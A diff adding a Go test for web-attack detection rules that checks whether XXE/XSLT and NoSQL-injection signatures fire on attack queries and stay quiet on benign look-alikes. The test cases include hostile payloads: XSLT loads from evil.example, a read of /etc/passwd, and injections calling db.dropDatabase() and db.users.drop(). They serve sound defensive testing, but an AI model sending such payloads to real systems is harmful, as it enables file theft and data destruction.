@@ -1,0 +1,32 @@
+package patterns
+
+import "testing"
+
+// Session 14 fixes of the review's signature defects (rev-sig s14): each
+// look-alike the review crafted beside the red shape that must still fire.
+func TestFixSigS14(t *testing.T) {
+	t.Parallel()
+	m := mustCompile(t, Options{})
+	for _, c := range []s12Case{
+		// 1. xxe-entity: an XSLT element only when it loads from outside
+		{"GET", "/search", "q=%3Cxsl%3Atemplate%20match%3D%22%40%2A%7Cnode%28%29%22%3E%20identity%20transform", "", 200, "xxe-entity", false},
+		{"GET", "/search", "q=%3Cxsl%3Afor-each%20select%3D%22catalog/cd%22%3E%20sort", "", 200, "xxe-entity", false},
+		{"GET", "/search", "q=xsl%3Aapply-templates%20%3Cxsl%3Aapply-templates%20select%3D%22%40%2A%7Cnode%28%29%22/%3E", "", 200, "xxe-entity", false},
+		{"GET", "/docs/xslt/", "xsl=%3Cxsl%3Aoutput%20method%3D%22html%22/%3E", "", 200, "xxe-entity", false},
+		{"GET", "/transform", "xsl=%3Cxsl:import+href=%22http://evil.example/x.xsl%22/%3E", "", 200, "xxe-entity", true},
+		{"GET", "/transform", "xsl=%3Cxsl:variable+name=%22x%22+select=%22unparsed-text('/etc/passwd')%22/%3E", "", 200, "xxe-entity", true},
+		{"GET", "/transform", "xsl=%3Cxsl:for-each+select=%22document('http://evil.example/a.xml')%22%3E", "", 200, "xxe-entity", true},
+		// 2. nosqli-shell-call: the whole value before ';' is a quote break-out or a bare token
+		{"GET", "/search", "q=db.users.find%28%29%3B%20db.orders.find%28%29", "", 200, "nosqli-shell-call", false},
+		{"GET", "/search", "q=db.users.createIndex%28%7Bemail%3A%201%7D%29%3B%20db.users.getIndexes%28%29", "", 200, "nosqli-shell-call", false},
+		{"GET", "/questions/search", "q=var%20n%20%3D%205%3B%20db.items.find%28%29.limit%28n%29", "", 200, "nosqli-shell-call", false},
+		{"GET", "/search", "q=db.users.find(%22x%22);+db.orders.find()", "", 200, "nosqli-shell-call", false},
+		{"GET", "/api/items", "id=1%27%3B%20db.dropDatabase%28%29%3B%20%27", "", 200, "nosqli-shell-call", true},
+		{"GET", "/api/items", "page=2&id=abc%27);db.users.drop();(%27", "", 200, "nosqli-shell-call", true},
+		{"GET", "/api/items", "id=42;db.getCollectionNames()", "", 200, "nosqli-shell-call", true},
+	} {
+		if got := s12Fires(t, m, c); got != c.want {
+			t.Errorf("%s %s?%s (%d): %s fired %v, want %v", c.method, c.path, c.query, c.status, c.rule, got, c.want)
+		}
+	}
+}
